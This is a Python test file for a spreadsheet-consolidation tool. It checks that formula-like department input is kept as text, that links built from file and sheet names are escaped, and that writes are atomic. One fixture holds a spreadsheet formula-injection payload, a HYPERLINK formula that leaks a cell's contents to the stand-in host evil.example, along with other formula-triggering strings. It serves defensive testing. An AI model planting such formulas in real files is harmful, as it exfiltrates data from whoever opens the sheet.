"""Nothing a department typed is turned against the reader of the master; outputs are atomic."""

from __future__ import annotations

import hashlib
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from cascadebook import reconcile, write_master
from cascadebook.findings import Finding
from cascadebook.master import findings_sheet
from cascadebook.master import write as master_module
from cascadebook.spec.schema import load_spec
from conftest import clean_initiative, clean_kpi
from corpus import make_corpus as corpus

COL = {c.key: i for i, c in enumerate(load_spec().sheet("initiatives").columns, 1)}
FORMULA_LIKE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "expected_impact": "+44 qualified leads",
    "metric": "-cost per lead",
    "notes": "@SUM(A1:A9)",
    "owner": "\t=1+1",
}


def _typed_as_text(book, sheet: str, row: int, values: dict) -> None:
    ws = book[sheet]
    for key, value in values.items():
        cell = ws.cell(row, COL[key])
        cell.value = value
        cell.data_type = "s"  # typed with a leading apostrophe: text, not a formula


def _sheet_xml(path: Path, title: str) -> str:
    with zipfile.ZipFile(path) as archive:
        book = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="([^"]+)"', book).group(1)
        target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels) or re.search(
            rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels
        )
        return archive.read("xl/" + target.group(1).lstrip("/").removeprefix("xl/")).decode()


@pytest.fixture
def hostile_text(fill, returned):
    path = fill(
        "MKT",
        "=1+2 plan 100% #2.xlsx",
        rows={"initiatives": [clean_initiative("CO1", "Campaign", 1, 2)], "kpis": [clean_kpi("MKT-I01", "Leads")]},
    )
    corpus.edit(
        path,
        path,
        lambda book: (
            _typed_as_text(book, "Initiatives", 5, FORMULA_LIKE),
            setattr(book["Initiatives"], "title", "Our 'plan' #1"),
        ),
    )
    return path


def test_formula_like_text_is_text_in_the_master(strategy, key, returned, hostile_text, tmp_path):
    before = hashlib.sha256(hostile_text.read_bytes()).hexdigest()
    result = reconcile(strategy, [returned], key=key, jobs=1)
    out = write_master(result, tmp_path / "out" / "master.xlsx")
    assert hashlib.sha256(hostile_text.read_bytes()).hexdigest() == before  # the return is never modified

    [record] = result.initiatives
    assert record.get("title") == FORMULA_LIKE["title"] and record.get("owner") == "=1+1"
    flagged = {f.cell for f in result.findings if f.code == "formula-text"}
    assert {f"{chr(64 + COL[k])}5" for k in ("title", "notes", "owner")} <= flagged
    assert not {f"{chr(64 + COL[k])}5" for k in ("expected_impact", "metric")} & flagged  # words, not formulas

    book = openpyxl.load_workbook(out)
    ws = book["Initiatives"]
    head = [c.value for c in ws[1]]
    cells = {h: ws.cell(2, c) for c, h in enumerate(head, 1)}
    xml = _sheet_xml(out, "Initiatives")
    for header, text in (
        ("Initiative", FORMULA_LIKE["title"]),
        ("Expected impact", FORMULA_LIKE["expected_impact"]),
        ("Metric", FORMULA_LIKE["metric"]),
        ("Notes", FORMULA_LIKE["notes"]),
        ("Owner", "=1+1"),
    ):
        cell = cells[header]
        assert (cell.value, cell.data_type) == (text, "s"), header
        raw = re.search(rf'<c r="{cell.coordinate}"[^>]*?(?:/>|>.*?</c>)', xml, re.S).group(0)
        assert "<f>" not in raw and "<f " not in raw, raw
    sources = {r[0]: r for r in book["Sources"].iter_rows(min_row=2, values_only=True)}
    assert "returned/=1+2 plan 100% #2.xlsx" in sources  # a file name that looks like a formula, as text


def test_hyperlinks_from_user_file_and_sheet_names_are_escaped(strategy, key, returned, hostile_text, tmp_path):
    result = reconcile(strategy, [returned], key=key, jobs=1)
    out = write_master(result, tmp_path / "master.xlsx")
    findings = openpyxl.load_workbook(out)["Findings"]
    head = [c.value for c in findings[1]]
    links = [findings.cell(r, head.index("Link") + 1).hyperlink for r in range(2, findings.max_row + 1)]
    sheets = [
        (findings.cell(r, head.index("Sheet") + 1).value, findings.cell(r, head.index("Code") + 1).value)
        for r in range(2, findings.max_row + 1)
    ]
    link = next(link for link, sheet in zip(links, sheets) if sheet == ("Our 'plan' #1", "formula-text"))
    assert link.target.replace("\\", "/") == "returned/=1+2%20plan%20100%25%20%232.xlsx"
    assert link.location.startswith("'Our ''plan'' #1'!")


def test_a_sheet_name_excel_would_refuse_gets_no_anchor():
    finding = Finding("required-missing", "x", file="a.xlsx", sheet="a/b:c", cell="B5")
    assert findings_sheet._link(finding, "/tmp/r/a.xlsx", Path("/tmp/m")) == "external:../r/a.xlsx"
    ok = Finding("required-missing", "x", file="a.xlsx", sheet="Plan", cell="B5")
    assert findings_sheet._link(ok, "/tmp/r/a b.xlsx", Path("/tmp/m")) == "external:../r/a%20b.xlsx#'Plan'!B5"
    assert findings_sheet._link(ok, "/tmp/r/" + "x" * 3000 + ".xlsx", Path("/tmp/m")) is None
    assert findings_sheet._link(ok, "/tmp/r/new\nline.xlsx", Path("/tmp/m")) is None
    assert len(findings_sheet._tip("é" * 300 + "😀" * 200).encode("utf-16-le")) <= 510


def test_a_crash_while_writing_leaves_no_partial_master(strategy, key, returned, fill, tmp_path, monkeypatch):
    fill("MKT", rows={"initiatives": [clean_initiative("CO1", "Campaign", 1, 2)]})
    result = reconcile(strategy, [returned], key=key, jobs=1)
    folder = tmp_path / "out"
    target = write_master(result, folder / "master.xlsx")
    good = target.read_bytes()

    def crash(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(master_module, "write_findings", crash)
    with pytest.raises(RuntimeError, match="disk full"):
        write_master(result, folder / "master.xlsx")
    with pytest.raises(RuntimeError, match="disk full"):
        write_master(result, folder / "new.xlsx")
    assert sorted(p.name for p in folder.iterdir()) == ["master.xlsx"]  # no temp file, no half master
    assert target.read_bytes() == good

    import xlsxwriter

    def half_written(self):  # the process dies in the middle of writing the zip
        Path(self.filename).write_bytes(good[: len(good) // 2])
        raise OSError("killed")

    monkeypatch.undo()
    monkeypatch.setattr(xlsxwriter.Workbook, "close", half_written)
    with pytest.raises(OSError):
        write_master(result, folder / "master.xlsx")
    assert sorted(p.name for p in folder.iterdir()) == ["master.xlsx"] and target.read_bytes() == good


def test_outputs_get_ordinary_file_permissions(tmp_path):
    import os

    from cascadebook.atomic import write_text_atomic

    mask = os.umask(0o022)
    try:
        write_text_atomic(tmp_path / "report.json", "{}")
    finally:
        os.umask(mask)
    assert (tmp_path / "report.json").stat().st_mode & 0o777 == 0o644
